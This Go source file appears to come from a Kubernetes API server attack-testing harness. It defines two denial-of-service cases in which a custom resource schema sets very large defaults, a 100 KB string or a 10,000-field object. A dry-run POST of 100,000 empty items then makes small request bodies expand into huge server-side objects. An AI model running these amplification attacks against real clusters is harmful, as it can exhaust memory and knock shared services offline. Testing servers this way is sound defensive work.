package attack

import (
	"context"
	"fmt"
	"net/http"
	"strings"
)

const (
	things = "/apis/attack.test/v1/namespaces/attack/things"
	// anything is a schema that takes all.
	anything = `{"type":"object","x-kubernetes-preserve-unknown-fields":true}`
)

// thing is a custom resource whose list has the items.
func thing(list string) string {
	return `{"apiVersion":"attack.test/v1","kind":"Thing","metadata":{"name":"t"},"list":` + list + `}`
}

// define makes the custom resource with the schema and waits until it is served.
func (t *Target) define(ctx context.Context, schema string) error {
	c := t.client(admin, false)
	defer c.close()
	err := c.make(ctx, "/apis/apiextensions.k8s.io/v1/customresourcedefinitions", `{
		"metadata":{"name":"things.attack.test"},"spec":{"group":"attack.test","scope":"Namespaced",
		"names":{"plural":"things","singular":"thing","kind":"Thing","listKind":"ThingList"},
		"versions":[{"name":"v1","served":true,"storage":true,"schema":{"openAPIV3Schema":`+schema+`}}]}}`)
	if err != nil {
		return err
	}
	return eventually(ctx, func() error {
		_, err := c.want(ctx, http.StatusOK, Request{Method: "GET", Path: things})
		return err
	})
}

// definitions are custom resources whose CustomResourceDefinition makes small bodies large.
func definitions() []Attack {
	schema := func(property, value string) string {
		return `{"type":"object","properties":{"list":{"type":"array","items":{"type":"object","properties":{"x":` +
			strings.TrimSuffix(property, "}") + `,"default":` + value + `}}}}}}`
	}
	post := func(ctx context.Context, a *Attacker) error {
		body := []byte(thing(`[` + items(100_000, func(int) string { return "{}" }) + `]`))
		r := Request{Method: "POST", Path: things + "?dryRun=All", Body: body}
		return again(2, attacker, func() Request { return r })(ctx, a)
	}
	return []Attack{
		{
			Group: "definitions", Name: "default-string", Answers: 1,
			Does: "Creates, as a dry run, a custom resource with 100,000 items that have a string of 100 KB by default.",
			Setup: func(ctx context.Context, t *Target) error {
				return t.define(ctx, schema(`{"type":"string"}`, `"`+strings.Repeat("x", 100_000)+`"`))
			},
			Run: post,
		},
		{
			Group: "definitions", Name: "default-object", Answers: 1,
			Does: "Does the same with an object of 10,000 fields.",
			Setup: func(ctx context.Context, t *Target) error {
				fields := items(10_000, func(i int) string { return fmt.Sprintf(`"%05d":0`, i) })
				return t.define(ctx, schema(anything, `{`+fields+`}`))
			},
			Run: post,
		},
	}
}
